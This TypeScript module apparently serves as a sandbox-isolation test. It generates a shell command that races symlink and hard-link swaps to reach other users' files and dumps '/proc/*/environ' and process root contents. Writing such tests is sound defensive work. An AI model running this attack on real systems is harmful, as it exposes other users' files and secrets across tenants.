import { dirname, join } from 'node:path';
import type { Workspace } from '@x/core';

/** The attacker's folder, in which the command swaps files. */
const FOLDER = 'swaps';
/** Seconds after which the command stops. */
const SECONDS = 60;
/** Maximum number of levels by which a link leads up from the attacker's folder. */
const DEPTH = 7;

/** An attack by two sessions: one swaps files in its sandbox, while another reads them. */
export interface Swapping {
  /**
   * Shell command that repeatedly swaps a folder for symbolic and hard links to other users' files until it is stopped. Then it prints the
   * parts of these files that it can read itself.
   */
  readonly command: string;
  /** Paths that sometimes lead to other users' files. */
  readonly paths: readonly string[];
}

/** Creates the attack on other users' files, given by their paths in the storage. */
export function swapping(storage: Workspace, files: readonly string[]): Swapping {
  const { root } = storage as { readonly root?: unknown };
  const ups = Array.from({ length: DEPTH }, (_, up) => '../'.repeat(up + 2));
  const begins = [...ups, ...(typeof root === 'string' ? [`${root}/`] : []), '/proc/self/cwd/../../'];
  const folders = [...new Set(files.map((file) => dirname(file)))];
  const targets = begins.flatMap((begin) => folders.map((folder) => join(begin, folder)));
  const links = [...targets, '/proc/self/root', '/proc/1/cwd', '..'].map((target, at) => [`m${at}`, target]);
  const hard = begins.flatMap((begin) => files.map((file) => join(begin, file)));
  const names = [...new Set(files.map((file) => file.slice(dirname(file).length + 1)))];
  const command = [
    `mkdir -p ${FOLDER}/l && cd ${FOLDER} && for f in ${words(names)}; do echo own > "l/$f"; done`,
    ...links.map(([name, target]) => `ln -s ${words([target ?? ''])} ${name}`),
    `n=0; for f in ${words(hard)}; do n=$((n+1)); ln "$f" h$n; done`,
    `end=$(($(date +%s)+${SECONDS})); touch ready`,
    'while [ ! -e stop ] && [ $(date +%s) -lt $end ]; do',
    'for m in m*; do mv l k; mv $m l; mv l $m; mv k l; done; done',
    'cat */* h* /proc/*/environ /proc/*/root*/*',
  ].join('\n');
  return {
    command: `{ ${command}\n} 2>/dev/null`,
    paths: names.flatMap((name) => [
      `${FOLDER}/l/${name}`,
      `${FOLDER}/m0/${name}`,
      `${FOLDER}/h1`,
      `${FOLDER}/l`,
    ]),
  };
}

/** Returns the folder in which the command works, once it has started. */
export async function placeOf(storage: Workspace): Promise<string | undefined> {
  for await (const { path } of storage.list('', { recursive: true }))
    if (path.endsWith(`/${FOLDER}/ready`)) return dirname(path);
  return undefined;
}

function words(texts: readonly string[]): string {
  return texts.map((text) => `'${text.replaceAll("'", "'\\''")}'`).join(' ');
}
